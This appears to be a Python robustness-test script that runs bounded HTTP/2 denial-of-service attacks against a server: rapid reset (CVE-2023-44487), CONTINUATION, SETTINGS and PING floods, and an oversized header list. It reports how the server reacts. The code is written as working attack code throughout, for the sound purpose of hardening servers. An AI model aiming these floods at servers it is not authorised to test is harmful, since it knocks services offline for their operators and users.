#!/usr/bin/env python3
"""HTTP/2 attacks against a server, for the robustness tests. Bounded in count and time.

usage: h2_attack.py MODE HOST PORT [--tls CERT KEY CA] [--authority A] [--count N]

MODE: rapid-reset (HEADERS then RST_STREAM, CVE-2023-44487), continuation (HEADERS without
END_HEADERS followed by endless CONTINUATION frames), settings (SETTINGS frames never read),
ping (PING frames never read), huge-headers (one request with a multi-megabyte header list).

Prints one JSON line: {"mode", "frames", "bytes", "closed_by_server", "goaway", "backpressure",
"seconds"}: `backpressure` means the server stopped reading (a send timed out) without closing.
"""
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE_SECONDS = 20


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(host, port, tls):
    sock = socket.create_connection((host, port), timeout=5)
    if tls:
        cert, key, ca = tls
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.load_cert_chain(cert, key)
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock)
    return sock


def drain(sock, conn, state):
    """Reads what is there without blocking; notes GOAWAY and closes."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                state["closed_by_server"] = True
                return
            if conn is not None:
                try:
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            state["goaway"] = True
                except Exception:
                    state["goaway"] = True
            elif b"\x07" in data[3:4]:
                state["goaway"] = True
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    except (ConnectionError, OSError, ssl.SSLError):
        state["closed_by_server"] = True
    finally:
        sock.setblocking(True)


def send(sock, data, state):
    try:
        sock.sendall(data)
        state["bytes"] += len(data)
        return True
    except (socket.timeout, TimeoutError):
        state["backpressure"] = True
        return False
    except (ConnectionError, OSError, ssl.SSLError):
        state["closed_by_server"] = True
        return False


def main():
    args = sys.argv[1:]
    mode, host, port = args[0], args[1], int(args[2])
    tls = None
    authority = f"{host}:{port}"
    count = 20000
    rest = args[3:]
    while rest:
        if rest[0] == "--tls":
            tls, rest = (rest[1], rest[2], rest[3]), rest[4:]
        elif rest[0] == "--authority":
            authority, rest = rest[1], rest[2:]
        elif rest[0] == "--count":
            count, rest = int(rest[1]), rest[2:]
        else:
            raise SystemExit(f"unknown argument {rest[0]}")
    method = "CONNECT" if tls else "GET"
    sock = connect(host, port, tls)
    state = {"mode": mode, "frames": 0, "bytes": 0, "closed_by_server": False, "goaway": False, "backpressure": False}
    started = time.monotonic()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
    conn.initiate_connection()
    send(sock, conn.data_to_send(), state)
    headers = [(":method", method), (":authority", authority)]
    if method == "GET":
        headers += [(":scheme", "http"), (":path", "/")]
    if mode == "rapid-reset":
        for i in range(count):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            conn.reset_stream(stream)
            state["frames"] += 2
            if i % 100 == 99:
                if not send(sock, conn.data_to_send(), state):
                    break
                drain(sock, conn, state)
                if state["closed_by_server"] or state["goaway"]:
                    break
            if time.monotonic() - started > DEADLINE_SECONDS:
                break
        send(sock, conn.data_to_send(), state)
    elif mode in ("continuation", "settings", "ping"):
        conn = None  # raw frames from here on
        if mode == "continuation":
            block = b"\x82\x86\x84"  # :method GET, :scheme http, :path / (static table)
            send(sock, frame(0x1, 0x0, 1, block), state)
            junk = frame(0x9, 0x0, 1, b"\x40\x01a\x01b" * 3000)  # literal x: y, repeated
        elif mode == "settings":
            junk = frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100))
        else:
            junk = frame(0x6, 0x0, 0, b"12345678")
        batch = junk * max(1, 65536 // len(junk))
        per_batch = max(1, 65536 // len(junk))
        sock.settimeout(2)
        while state["frames"] < count * 50 and time.monotonic() - started < DEADLINE_SECONDS:
            if not send(sock, batch, state):
                break
            state["frames"] += per_batch
            if mode == "continuation":
                drain(sock, None, state)
                if state["closed_by_server"]:
                    break
    elif mode == "huge-headers":
        big = [(f"x-filler-{i}", "v" * 1000) for i in range(4000)]
        stream = conn.get_next_available_stream_id()
        try:
            conn.send_headers(stream, headers + big, end_stream=True)
        except Exception as error:  # the library may refuse to frame it; then frame it raw
            raise SystemExit(f"could not build headers: {error}")
        state["frames"] = 1
        send(sock, conn.data_to_send(), state)
        time.sleep(0.5)
        drain(sock, conn, state)
    else:
        raise SystemExit(f"unknown mode {mode}")
    time.sleep(0.2)
    drain(sock, conn if mode in ("rapid-reset", "huge-headers") else None, state)
    state["seconds"] = round(time.monotonic() - started, 2)
    print(json.dumps(state), flush=True)
    sock.close()


if __name__ == "__main__":
    main()
